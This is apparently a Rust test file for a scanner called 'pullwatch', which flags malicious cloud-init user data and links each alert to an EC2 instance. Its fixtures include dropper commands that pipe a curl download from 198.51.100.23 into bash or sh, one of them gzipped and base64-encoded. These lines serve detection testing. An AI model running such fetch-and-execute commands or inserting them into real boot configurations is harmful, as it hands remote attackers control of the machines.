//! A file of user data handed to `pullwatch scan` (cloud-init's `user-data.txt`, a saved
//! copy, base64 or gzip of it) is inspected as one document, through the real binary.

mod common;

use assert_cmd::Command;
use common::scan_json;
use serde_json::Value;
use std::io::Write;
use std::path::{Path, PathBuf};

const DROPPER: &str = "#!/bin/bash\nset -e\ncurl -fsSL http://198.51.100.23/stage2.sh | bash\n";

fn example(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../examples")
        .join(rel)
}

fn write(dir: &Path, rel: &str, data: &[u8]) -> PathBuf {
    let p = dir.join(rel);
    if let Some(parent) = p.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(&p, data).expect("write");
    p
}

fn scan(paths: &[&Path]) -> (Vec<Value>, String) {
    let s = scan_json(&[], paths);
    (s.alerts, s.stderr)
}

/// Standard base64 with padding, as `base64 -w0` writes it.
fn base64(bytes: &[u8]) -> String {
    const ABC: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | (u32::from(*b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ABC[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn user_data_alerts(alerts: &[Value]) -> Vec<&Value> {
    alerts
        .iter()
        .filter(|a| a["rule"] == "an0692.user_data")
        .collect()
}

#[test]
fn user_data_txt_is_tied_to_the_instance_its_path_names() {
    let d = tempfile::tempdir().expect("temp dir");
    // The launch in examples/cloud/cloudtrail.json, from an unapproved AMI.
    let ud = write(
        d.path(),
        "var/lib/cloud/instances/i-0b2c3d4e5f6071829/user-data.txt",
        DROPPER.as_bytes(),
    );
    let (alerts, stderr) = scan(&[&example("cloud"), &ud]);
    let ud_alerts = user_data_alerts(&alerts);
    assert_eq!(ud_alerts.len(), 1, "{stderr}");
    let a = ud_alerts[0];
    assert_eq!(a["entity"]["instance_id"], "i-0b2c3d4e5f6071829", "{a}");
    assert_eq!(a["severity"], "high", "unapproved AMI: {a}");
    let reasons = a["reasons"].to_string();
    assert!(reasons.contains("stage2.sh"), "{reasons}");
    assert!(
        a["evidence"]
            .as_array()
            .expect("evidence")
            .iter()
            .any(|e| e["stage"] == "launch"),
        "{a}"
    );
    assert!(stderr.contains("user-data"), "{stderr}");
}

#[test]
fn user_data_with_no_instance_is_reported_on_the_file() {
    let d = tempfile::tempdir().expect("temp dir");
    // base64 of gzip of a cloud-config, as the EC2 API takes it.
    let cc = "#cloud-config\nruncmd:\n  - curl -s http://198.51.100.23/m | sh\n";
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(cc.as_bytes()).expect("gzip");
    let b64 = base64(&gz.finish().expect("gzip"));
    let file = write(d.path(), "launch-template/boot.b64", b64.as_bytes());
    let (alerts, stderr) = scan(&[&file]);
    let ud_alerts = user_data_alerts(&alerts);
    assert_eq!(ud_alerts.len(), 1, "{stderr}");
    let a = ud_alerts[0];
    assert_eq!(a["entity"]["file"], file.display().to_string(), "{a}");
    assert_eq!(a["entity"].get("instance_id"), None, "{a}");
    assert!(a["reasons"].to_string().contains("198.51.100.23"), "{a}");

    // Named after an instance that no record launches: still reported, on it.
    let named = write(
        d.path(),
        "saved/i-0123456789abcdef0-user-data.sh",
        DROPPER.as_bytes(),
    );
    let (alerts, stderr) = scan(&[&named]);
    let ud_alerts = user_data_alerts(&alerts);
    assert_eq!(ud_alerts.len(), 1, "{stderr}");
    assert_eq!(ud_alerts[0]["entity"]["instance_id"], "i-0123456789abcdef0");

    // Ordinary configuration is read and counted, and does not alert.
    let benign = write(
        d.path(),
        "ok/user-data.txt",
        b"#cloud-config\npackages: [nginx]\nruncmd:\n  - systemctl enable --now nginx\n",
    );
    let (alerts, stderr) = scan(&[&benign]);
    assert!(alerts.is_empty(), "{alerts:?}");
    assert!(stderr.contains("user-data"), "{stderr}");
    assert!(stderr.contains("skipped: none"), "{stderr}");
}

#[test]
fn user_data_of_a_collected_host_is_tied_by_its_cloud_init_log() {
    let d = tempfile::tempdir().expect("temp dir");
    // A host's files as collected: the `instance` link names no id, cloud-init's log does.
    let ud = write(
        d.path(),
        "host-a/var/lib/cloud/instance/user-data.txt",
        DROPPER.as_bytes(),
    );
    let (alone, _) = scan(&[&ud]);
    let alone = user_data_alerts(&alone);
    assert_eq!(alone.len(), 1);
    assert_eq!(alone[0]["entity"]["file"], ud.display().to_string());

    let log = write(
        d.path(),
        "host-a/var/log/cloud-init.log",
        b"2026-11-20 09:31:01,250 - util.py[DEBUG]: Cloud-init v. 23.4 running 'init-local' at Fri, 20 Nov 2026 09:31:01 +0000. Up 5.06 seconds.\n\
2026-11-20 09:31:03,200 - util.py[DEBUG]: Writing to /var/lib/cloud/instances/i-0b2c3d4e5f6071829/user-data.txt - wb: [600] 344 bytes\n\
2026-11-20 09:31:09,000 - util.py[DEBUG]: Cloud-init v. 23.4 running 'modules:final' at Fri, 20 Nov 2026 09:31:09 +0000. Up 13 seconds.\n",
    );
    // Another host's cloud-init names another instance: it does not claim this file.
    let other = write(
        d.path(),
        "host-b/var/log/cloud-init.log",
        b"2026-11-20 09:31:03,200 - util.py[DEBUG]: Writing to /var/lib/cloud/instances/i-0aaaaaaaaaaaaaaaa/user-data.txt - wb: [600] 344 bytes\n\
2026-11-20 09:31:09,000 - util.py[DEBUG]: Cloud-init v. 23.4 running 'modules:final' at Fri, 20 Nov 2026 09:31:09 +0000. Up 13 seconds.\n",
    );
    let (alerts, stderr) = scan(&[&example("cloud"), &ud, &log, &other]);
    let ud_alerts = user_data_alerts(&alerts);
    assert_eq!(ud_alerts.len(), 1, "{stderr}");
    let a = ud_alerts[0];
    assert_eq!(a["entity"]["instance_id"], "i-0b2c3d4e5f6071829", "{a}");
    assert_eq!(a["entity"].get("file"), None, "{a}");
    assert_eq!(a["severity"], "high", "unapproved AMI: {a}");
}

#[test]
fn formats_lists_user_data() {
    let out = Command::cargo_bin("pullwatch")
        .expect("binary")
        .arg("formats")
        .output()
        .expect("runs");
    let text = String::from_utf8(out.stdout).expect("UTF-8");
    assert!(text.lines().any(|l| l.starts_with("user-data ")), "{text}");
}
